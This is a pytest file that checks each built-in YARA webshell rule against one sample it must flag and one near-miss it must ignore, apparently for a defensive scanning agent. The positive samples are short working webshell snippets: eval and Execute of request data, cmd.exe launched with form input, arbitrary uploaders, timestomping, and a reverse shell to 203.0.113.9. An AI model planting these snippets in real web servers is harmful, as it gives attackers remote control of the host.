"""Every built-in YARA rule: one sample it must catch and one near miss it must leave alone."""
# ruff: noqa: E501  (sample pages read best unwrapped)

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
import yara_x
from test_content_samples import (
    BENIGN,
    WEBSHELLS,
    der_export_shell,
    dropper_prefix_shell,
    gif_polyglot_shell,
    pst_export_shell,
)

from agent.content import ContentScanner
from agent.content.rules import BUILTIN_NAMESPACE, BUILTIN_YARA_DIR, compile_rules, rule_meta
from agent.detection import Severity

# rule id -> (positive, negative). A str names a file in tests/data/webshells.
CASES: dict[str, tuple[bytes | str, bytes]] = {
    "exw.ws.eval_unsafe": (
        b'<%@ Page Language="Jscript"%><%eval(Request.Item["a"],"unsafe");%>',
        b'<%@ Page Language="Jscript"%><%var s = "unsafe"; Response.Write(eval_count(1));%>'),
    "exw.ws.eval_request": (
        b'<%eval request("x")%>',
        b'<a href="p.aspx?id=<%# Eval("Id") %>&r=<%= Request.QueryString["r"] %>">x</a>'),
    "exw.ws.jscript_page_eval": (
        b'<%@ Page Language="JScript"%><% var q = Request.Form("q"); eval(q); %>',
        b'<%@ Page Language="C#"%><script>var q = eval(json);</script><%= Request.Form["q"] %>'),
    "exw.ws.jscript_engine": (
        "csharp_jscript_engine.aspx",
        b"// docs: JScriptEvaluate is obsolete\nvar x = 1;"),
    "exw.ws.vbs_execute_small": (
        b'<%\r\nDim a\r\na = Request("k")\r\nExecute a\r\n%>',
        b'<%\r\nSet rs = conn.Execute(sql)\r\nid = Request("k")\r\n%>'),
    "exw.ws.vbs_execute": (
        b'<%\r\nx = Request.Form("p")\r\nExecuteGlobal x\r\n%>' + b"<!-- pad -->" * 1000,
        b'<%\r\nx = Request.Form("p")\r\nExecuteGlobal f.ReadAll()\r\n%>'),
    "exw.ws.compile_request": (
        b'<%@ Page Language="C#"%><% var p = new Microsoft.CSharp.CSharpCodeProvider(); '
        b'var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]); %>',
        b'<%@ Page Language="C#"%><% var p = new Microsoft.CSharp.CSharpCodeProvider(); %>'),
    "exw.ws.assembly_load_request": (
        "antsword_csharp_loader.aspx",
        b'<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load("System.Web");\n'
        b'Response.Write(Request.Form["x"]); %>'),
    "exw.ws.assembly_load_crypto": (
        "behinder_style_loader.aspx",
        b"var a = Assembly.Load(File.ReadAllBytes(p)); var aes = new RijndaelManaged(); a.CreateInstance(t);"),
    "exw.ws.assembly_load_embedded": (
        "embedded_pe_loader.aspx",
        b'<% var b = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGXRFWHRTb2Z0d2FyZQ");'
        b' var a = Assembly.Load("Shop.Core"); %>'),
    "exw.ws.session_loader": (
        "godzilla_style_loader.aspx",
        b'<% Session["cart"] = new List<string>(); var o = Activator.CreateInstance(typeof(Cart)); %>'),
    "exw.ws.process_input": (
        b'<% System.Diagnostics.Process.Start(Request.QueryString["exe"]); %>',
        b'<% var p = System.Diagnostics.Process.Start("notepad.exe"); lbl.Text = "started"; %>'),
    "exw.ws.cmd_shell": (
        b'<%@ Page Language="C#"%><% var si = new System.Diagnostics.ProcessStartInfo("cmd.exe");'
        b' si.Arguments = "/c " + Request.Form["c"]; System.Diagnostics.Process.Start(si); %>',
        b'<%@ Page Language="C#"%><% var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c iisreset");'
        b' System.Diagnostics.Process.Start(si); lbl.Text = "done"; %>'),
    "exw.ws.cmd_output": (
        b'<% var si = new ProcessStartInfo("cmd.exe", "/c ver") { RedirectStandardOutput = true };'
        b' Response.Write(Process.Start(si).StandardOutput.ReadToEnd()); %>',
        b'<% var si = new ProcessStartInfo("sc.exe", "query w3svc") { RedirectStandardOutput = true };'
        b' Response.Write(Process.Start(si).StandardOutput.ReadToEnd()); %>'),
    "exw.ws.process_request_page": (
        b'<%@ Page Language="C#"%><% if (Request.Form["go"] != null) Process.Start("sc.exe", "start svc"); %>',
        b'<%@ Page Language="C#"%><% Response.Write(Request.Form["go"]); %>'),
    "exw.ws.asp_wscript_shell": (
        "asp_wscript_exec.asp",
        b'<% Set sh = Server.CreateObject("WScript.Shell")\r\nsh.Run "cleanup.bat", 0, True %>'),
    "exw.ws.asp_shell_object": (
        b'<% Set sh = CreateObject("WScript.Shell")\r\nsh.Run "cleanup.bat", 0, True %>',
        b'<p>Call CreateObject("WScript.Shell") and .Run to automate the desktop.</p>'),
    "exw.ws.powershell_runspace": (
        "powershell_runspace.aspx",
        b'<%@ Page Language="C#"%><% using (var ps = PowerShell.Create()) { ps.AddScript("Get-Date"); ps.Invoke(); } %>'),
    "exw.ws.sql_shell": (
        "sql_query_shell.aspx",
        b'<% var c = new SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);'
        b' var cmd = new SqlCommand("select 1 where id=@id", c); cmd.Parameters.AddWithValue("@id", Request["id"]); %>'),
    "exw.ws.reverse_shell": (
        b'<% var c = new TcpClient("203.0.113.9", 443); var si = new ProcessStartInfo("cmd.exe")'
        b' { RedirectStandardInput = true, RedirectStandardOutput = true }; var p = Process.Start(si); %>',
        b'<% var c = new TcpClient("smtp.example.com", 25); var p = Process.Start("sc.exe", "query"); %>'),
    "exw.ws.com_reflection_exec": (
        "com_progid_reflection.aspx",
        # late-bound Excel automation on a file the page chooses: no Exec or Run
        (BENIGN / "excel_export_late_bound.aspx").read_bytes()),
    "exw.ws.reflection_process_start": (
        "reflection_process_start.ashx",
        # an action dispatcher: reflection over request-named types, but no process method
        (BENIGN / "plugin_dispatch_reflection.ashx").read_bytes()),
    "exw.ws.upload_path_request": (
        "upload_path_param.aspx",
        b'<% f.SaveAs(Path.Combine(Server.MapPath("~/up"), Guid.NewGuid() + ".png")); var r = Request.Form["x"]; %>'),
    "exw.ws.upload_tiny": (
        "hafnium_style_uploader.aspx",
        b'<% var f = Request.Files[0]; if (Path.GetExtension(f.FileName) == ".png") '
        b'Request.Files[0].SaveAs(Server.MapPath("~/up/") + Guid.NewGuid() + ".png"); %>'),
    "exw.ws.upload_small": (
        b'<script runat="server">void Up(object s, EventArgs e) { FileUpload1.SaveAs(Server.MapPath(".") + "\\\\" + FileUpload1.FileName); }</script>',
        b'<script runat="server">void Up(object s, EventArgs e) { if (Path.GetExtension(FileUpload1.FileName) == ".png")'
        b' FileUpload1.SaveAs(Server.MapPath(".") + "\\\\" + FileUpload1.FileName); }</script>'),
    "exw.ws.file_write_request": (
        "file_write_b64.aspx",
        b'<% System.IO.File.AppendAllText(Server.MapPath("~/App_Data/log.txt"), Request.UserAgent + Request.Form["x"]); %>'),
    "exw.ws.timestomp": (
        b'<%@ Page Language="C#"%><% File.SetLastWriteTime(Request.Form["f"], new DateTime(2019, 1, 1)); %>',
        b'<%@ Page Language="C#"%><% var t = new FileInfo(Request.Form["f"]).LastWriteTime == DateTime.Today; %>'),
    "exw.ws.proxyshell_pst": (
        pst_export_shell(),
        b"!BDN" + bytes(200)),
    "exw.iis.vdir_programdata": (
        b'<configuration><sites><site name="Default Web Site"><application path="/x">'
        b'<virtualDirectory path="/" physicalPath="C:\\ProgramData\\ZING" /></application>'
        b"</site></sites></configuration>",
        b'<configuration><sites><site name="Default Web Site"><application path="/x">'
        b'<virtualDirectory path="/" physicalPath="C:\\inetpub\\wwwroot" /></application>'
        b"</site></sites></configuration>"),
    "exw.ws.proxyshell_der": (
        der_export_shell(),
        b"\x30\x82\x02\x10" + bytes(300) + b"CN=mail.example.com"),
    "exw.ws.binary_prefix": (
        dropper_prefix_shell(),
        b"\xef\xbb\xbf" + b'<%@ Page Language="C#" %><html>caf\xc3\xa9</html>'),
    "exw.ws.image_polyglot": (
        gif_polyglot_shell(),
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(100) + b"<!-- a comment -->"),
    "exw.ws.oab_config": (
        "oab_config_export.aspx",
        b"Name : OAB (Default Web Site)\r\nExternalUrl : https://mail.example.com/OAB\r\nInternalUrl : https://exch01/OAB\r\n"),
    "exw.ws.exchange_shell_params": (
        "exchange_param_gold.aspx",
        b'<% var v = Request.Form["gold"]; var exec_code = 1; %>'),
    "exw.ws.base64_exec": (
        "asp_base64_execute.asp",
        b'<% var img = Convert.FromBase64String(Request.Form["img"]); Response.BinaryWrite(img); %>'),
    "exw.ws.decode_exec": (
        "asp_strreverse.asp",
        b'<% Response.Write StrReverse("olleh") %>'),
    "exw.ws.script_encoded": (
        "asp_script_encoded.asp",
        b'<script language="VBScript.Encode">#@~^CAAAAA==...^#~@</script>'),
    "exw.ws.request_var_execute": (
        "asp_execute_indirect.asp",
        b'<%@ Page Language="C#"%><% var a = Request("k"); Execute a %>'),
    "exw.ws.request_var_eval": (
        "jscript_request_var_eval.asp",
        b'<% var c = Request.Form("c"); %><script>var o = JSON.parse(s);</script>'),
    "exw.ws.aspx_capabilities": (
        "spy_style_manager.aspx",
        b'<%@ Page Language="C#"%><% foreach (var d in DriveInfo.GetDrives()) Response.Write(d.Name); %>'),
    "exw.ws.aspx_capabilities_some": (
        "spy_style_manager.aspx",
        b'<%@ Page Language="C#"%><% Directory.GetFiles(p); File.Delete(p); Response.WriteFile(p); %>'),
    "exw.ws.asp_capabilities": (
        "asp_admin_shell.asp",
        b'<% Set fso = Server.CreateObject("Scripting.FileSystemObject")\r\n'
        b'Set f = fso.OpenTextFile(Server.MapPath("c.txt"))\r\nx = Request("id") %>'),
    "exw.ws.socket_tunnel": (
        "tunnel_socket.aspx",
        b'<% var c = new TcpClient("smtp.example.com", 25); c.Close(); %>'),
    "exw.ws.config_code": (
        "webconfig_shell.config",
        b'<?xml version="1.0"?><configuration><appSettings><add key="a" value="b"/></appSettings></configuration>'),
    "exw.ws.xslt_script": (
        "xslt_exec.xslt",
        b'<msxsl:script language="C#"><![CDATA[ public string f(double d) { return d.ToString("C"); } ]]></msxsl:script>'),
    "exw.ws.php_eval": (
        "php_eval_post.php",
        b'<?php echo htmlspecialchars($_POST["name"]); ?>'),
    "exw.ws.php_capabilities": (
        b'<?php $_POST["f"]($_POST["a"]); ?>',
        b'<?php echo php_uname(); if (isset($_FILES["f"])) move_uploaded_file($_FILES["f"]["tmp_name"], "up/a.png"); ?>'),
    "exw.ws.service_method_process": (
        "cmd_webservice.asmx",
        b'<%@ WebService Language="C#" Class="Ops" %>\n[WebMethod] public string Recycle() {'
        b' var p = Process.Start("iisreset.exe", "/noforce"); p.WaitForExit(); return "ok"; }'),
    "exw.ws.wmi_process_create": (
        "wmi_process_create.aspx",
        b'<%@ Page Language="C#"%><% var s = new ManagementObjectSearcher("SELECT Name FROM Win32_Process");'
        b' foreach (var o in s.Get()) Response.Write(o["Name"]); %>'),
    "exw.ws.asp_computed_object": (
        "asp_computed_progid.asp",
        b'<% progId = "ADODB.Connection"\r\nSet c = Server.CreateObject(progId)\r\nc.Open Request("dsn") %>'),
    "exw.ws.deserialize_request": (
        "deserialize_losformatter.aspx",
        b'<%@ Page Language="C#"%><% var o = new BinaryFormatter().Deserialize(File.OpenRead(Server.MapPath("~/App_Data/c.bin")));'
        b' lbl.Text = Request.QueryString["id"]; %>'),
    "exw.ws.encoded_sink_names": (
        "hex_encoded_names.aspx",
        b'<%@ Page Language="C#"%><% var d = "System.Diagnostics.Process"; var r = Rev("olleh"); %>'
        b'<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGXRFWHRTb2Z0d2FyZQ==">'),
    "exw.ws.reflection_computed": (
        "reflection_charcode_names.aspx",
        # an action dispatcher: request-named types, but the names are plain text
        (BENIGN / "plugin_dispatch_reflection.ashx").read_bytes()),
    "exw.ws.write_bin": (
        "bin_dll_dropper.aspx",
        b'<%@ Page Language="C#"%><% var v = FileVersionInfo.GetVersionInfo(Server.MapPath("~/bin/Contoso.dll"));'
        b' Response.Write(v.FileVersion + Request.QueryString["x"]); %>'),
    "exw.ws.request_path_written": (
        "asp_fso_mapped_writer.asp",
        b'<% p = Server.MapPath(Request.QueryString("f"))\r\nSet f = fso.OpenTextFile(p, 1)\r\nResponse.Write f.ReadAll %>'),
    "exw.ws.asp_body_saved": (
        "asp_stream_upload.asp",
        b'<% Set s = Server.CreateObject("ADODB.Stream")\r\ns.Open\r\ns.LoadFromFile Server.MapPath("r.pdf")\r\n'
        b'Response.BinaryWrite s.Read %>'),
    "exw.ws.assembly_load_decoded": (
        "appcode_header_loader.cs",
        # decoding and request data, but the assembly's bytes come from a file
        b'<%@ Page Language="C#"%><% var img = Convert.FromBase64String(Request.Form["logo"]);'
        b' var a = Assembly.Load(File.ReadAllBytes(Server.MapPath("~/bin/Shop.dll"))); a.CreateInstance("Shop.Cart"); %>'),
    "exw.ws.assembly_reflect_request": (
        "sideload_reflect.aspx",
        # a plugin called through its interface
        b'<%@ Page Language="C#"%><% var a = Assembly.LoadFrom(Server.MapPath("~/bin/plugins/Weather.dll"));'
        b' var w = (IWidget)a.CreateInstance("Weather.Widget"); w.Render(Request.QueryString["city"]); %>'),
    "exw.ws.xslt_trusted_request": (
        "xslt_client_stylesheet.aspx",
        # scripts enabled, but the stylesheet is the site's own file
        b'<%@ Page Language="C#"%><% var t = new XslCompiledTransform();'
        b' t.Load(Server.MapPath("~/App_Data/report.xslt"), new XsltSettings(false, true), null);'
        b' var id = Request.QueryString["id"]; %>'),
    "exw.ws.socket_relay": (
        "streaming_socket_relay.ashx",
        # a port check: connects and answers, but never reads the body
        b'<%@ WebHandler Language="C#" Class="Check" %>\npublic class Check : IHttpHandler { public void ProcessRequest(HttpContext c) {'
        b' var t = new TcpClient(); t.Connect("smtp.contoso.local", 25); c.Response.OutputStream.Write(Ok, 0, 2); } }'),
    "exw.ws.ssi_exec": (
        "ssi_exec_cmd.stm",
        b'<html><!--#include virtual="/footer.inc" --><!--#echo var="DATE_LOCAL" --> exec cmd</html>'),
    "exw.ws.php_decoded_eval": (
        "php_decrypt_eval_input.php",
        # a template cache: evaluates compiled code, decodes an image, reads the query, but
        # the code it evaluates is a literal
        b'<?php $img = base64_decode($logo); $id = $_GET["id"]; eval("return 1;"); ?>'),
    "exw.ws.php_dynamic_code": (
        "php_str_replace_pieces.php",
        b'<?php $page = basename($_GET["p"]); include __DIR__ . "/pages/" . $page . ".php";'
        b' $t = str_replace("-", "", $slug); ?>'),
    "exw.ws.jsp_reflective_exec": (
        "jsp_reflection_runtime.jsp",
        # a JDBC driver loaded by name, no process in sight
        b'<% Class.forName("org.postgresql.Driver"); String q = request.getParameter("q");'
        b' Method m = c.getMethod("run"); m.invoke(o); %>'),
    "exw.ws.vbs_execute_decoded": (
        "vbs_caesar_execute.asp",
        # a decoder and an Execute, but of a plain variable read from a local settings file
        b'<% Function dx(s)\r\n dx = Chr(Asc(s) - 1)\r\nEnd Function\r\nExecute cfg\r\n'
        b'x = dx("F~y~f~d~v~u~f~!~S~f~r~v~f") %>'),
    "exw.ws.process_type_by_name": (
        "cs_byte_array_names.aspx",
        # a diagnostics page that lists processes by their type's name, reading no process type
        b'<%@ Page Language="C#"%><% var t = Type.GetType("System.Diagnostics.Stopwatch");'
        b' Response.Write(Request.QueryString["id"]); %>'),
    "exw.ws.asp_write_then_execute": (
        "asp_drop_server_execute.asp",
        # a template page: writes a log and includes a fixed page by name
        b'<% Set f = fso.OpenTextFile(Server.MapPath("log.txt"), 8)\r\nf.WriteLine Request.Form("msg")\r\n'
        b'Server.Execute "footer.asp" %>'),
    "exw.ws.php_callback_input": (
        "php_usort_request_callback.php",
        # callbacks over request data, not callbacks from it
        b'<?php $ids = array_map("intval", $_POST["ids"]); $f = array_filter($_GET["tags"]);'
        b' usort($rows, "compare_rows"); ?>'),
    "exw.ws.php_script_writer": (
        "php_put_contents_dropper.php",
        # a cache writer: builds .php names, writes, but from its own data
        b'<?php $file = $dir . "/" . md5($key) . ".php"; file_put_contents($file, $compiled);'
        b' $page = (int) $_GET["page"]; ?>'),
    "exw.ws.jsp_el_exec": (
        "jsp_el_runtime_exec.jsp",
        b'<p>${pageContext.request.contextPath} ${param.name} uptime: ${runtime.uptime}</p>'),
    "exw.ws.jsp_file_write": (
        "jsp_realpath_writer.jsp",
        # a download page: resolves a path under the webapp from a parameter, reads it
        b'<% String f = request.getParameter("f"); File file = new File(application.getRealPath("/docs"), f);'
        b' InputStream in = new FileInputStream(file); %>'),
    "exw.ws.credential_recorder": (
        "owa_module_credential_recorder.cs",
        # an MFA page: checks the password itself, then keeps an audit line without it
        b'<%@ Page Language="C#"%><% string password = Request.Form["password"];'
        b' bool ok = pc.ValidateCredentials(user, password);'
        b' File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), user + " " + ok); %>'),
    "exw.ws.credential_script_exfil": (
        "owa_flogon_beacon.js",
        # a logon script that checks the boxes and submits the form itself
        b'function clkLgn() { var u = document.getElementById("username").value;'
        b' if (!document.getElementById("password").value) { return false; }'
        b' document.cookie = "PrivateComputer=" + encodeURIComponent(u); document.forms[0].submit(); }'),
    "exw.ws.config_writable_assembly": (
        "config_module_from_programdata.config",
        b'<configuration><runtime><assemblyBinding><dependentAssembly><codeBase version="15.0.0.0"'
        b' href="file:///C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\Microsoft.Exchange.Net.dll" />'
        b'</dependentAssembly></assemblyBinding></runtime></configuration>'),
    "exw.ws.config_static_as_code": (
        "config_jpg_as_page.config",
        b'<configuration><system.webServer><handlers><add name="PageHandlerFactory-Integrated-4.0" path="*.aspx"'
        b' verb="GET,HEAD,POST" type="System.Web.UI.PageHandlerFactory" /></handlers></system.webServer>'
        b'<system.web><compilation><buildProviders><add extension=".xaml" type="Contoso.DdiBuildProvider" />'
        b'</buildProviders></compilation></system.web></configuration>'),
    "exw.ws.config_published_machine_key": (
        "config_published_machine_key.config",
        b'<configuration><system.web><machineKey validationKey="AutoGenerate,IsolateApps"'
        b' decryptionKey="AutoGenerate,IsolateApps" validation="HMACSHA256" /></system.web></configuration>'),
    "exw.ws.mailbox_export_page": (
        "ews_mailbox_zip_export.aspx",
        # a mailbox size report: EWS and the request, but no items packed into an archive
        b'<%@ Page Language="C#"%><% var svc = new ExchangeService(ExchangeVersion.Exchange2013_SP1);'
        b' var f = Folder.Bind(svc, WellKnownFolderName.Inbox); Response.Write(f.TotalCount + Request.QueryString["m"]); %>'),
    "exw.ws.shellcode_runner": (
        "shellcode_virtualalloc_thread.aspx",
        # native calls for a status page: uptime and memory, nothing executable
        b'<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")] static extern ulong GetTickCount64();'
        b' [DllImport("kernel32")] static extern bool GlobalMemoryStatusEx(ref MEMORYSTATUSEX m);'
        b' // VirtualAlloc is not needed here</script>'),
    "exw.ws.execute_assembly": (
        "execute_uploaded_assembly.aspx",
        b'<%@ Page Language="C#"%><% var d = AppDomain.CreateDomain("reports");'
        b' d.ExecuteAssembly(Server.MapPath("~/bin/ReportRunner.exe")); %>'),
    "exw.ws.pinvoke_process": (
        "pinvoke_createprocess.aspx",
        b'<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")] static extern bool GetDiskFreeSpaceEx('
        b'string dir, out ulong free, out ulong total, out ulong totalFree);</script><%= Request.QueryString["d"] %>'),
    "exw.ws.jsp_exec": (
        "jsp_runtime_exec.jsp",
        # a fixed report tool run with a parameter parsed into a date first
        b'<% String p = request.getParameter("period"); ProcessBuilder pb = new ProcessBuilder('
        b'"/opt/report/bin/run", "--period", YearMonth.parse(p).toString()); pb.start(); %>'),
}


@pytest.fixture(scope="module")
def scanner() -> ContentScanner:
    return ContentScanner.load()


def _builtin_ids() -> set[str]:
    rules = compile_rules().rules
    return {rule_meta(r)["id"] for r in rules if r.namespace == BUILTIN_NAMESPACE}


def _sample(value: bytes | str) -> bytes:
    return (WEBSHELLS / value).read_bytes() if isinstance(value, str) else value


def test_every_builtin_rule_has_a_case() -> None:
    assert _builtin_ids() == set(CASES)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_positive(scanner: ContentScanner, rule_id: str) -> None:
    result = scanner.scan_bytes(_sample(CASES[rule_id][0]), path="x.aspx")
    assert rule_id in result.rule_ids


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_negative(scanner: ContentScanner, rule_id: str) -> None:
    result = scanner.scan_bytes(CASES[rule_id][1], path="x.aspx")
    assert rule_id not in result.rule_ids


def test_builtin_meta_is_complete() -> None:
    for rule in compile_rules().rules:
        meta = rule_meta(rule)
        assert meta["id"].startswith("exw.")
        Severity.parse(meta["severity"])
        tags = [t.strip() for t in meta["tags"].split(",")]
        assert "attack.t1505.003" in tags or any(t.startswith("attack.t") for t in tags)
        assert all(t == t.lower() and " " not in t for t in tags)


@pytest.mark.skipif(shutil.which("yara") is None, reason="yara command line not installed")
def test_rules_also_compile_with_classic_yara(tmp_path: Path) -> None:
    # The benchmark compares against the yara CLI on these very files.
    sample = tmp_path / "s.aspx"
    sample.write_bytes(_sample("chopper_jscript_item.aspx"))
    files = sorted(str(p) for p in BUILTIN_YARA_DIR.glob("*.yar"))
    for rule_file in files:
        out = subprocess.run(["yara", "-w", rule_file, str(sample)], capture_output=True, text=True,
                             check=False)
        assert out.returncode == 0, out.stderr


def test_rules_compile_without_slow_pattern_errors() -> None:
    compiler = yara_x.Compiler(error_on_slow_pattern=True)
    for name in ("filename", "filepath", "extension", "filetype", "owner"):
        compiler.define_global(name, "")
    for path in sorted(BUILTIN_YARA_DIR.glob("*.yar")):
        compiler.add_source(path.read_text(), origin=str(path))
    compiler.build()
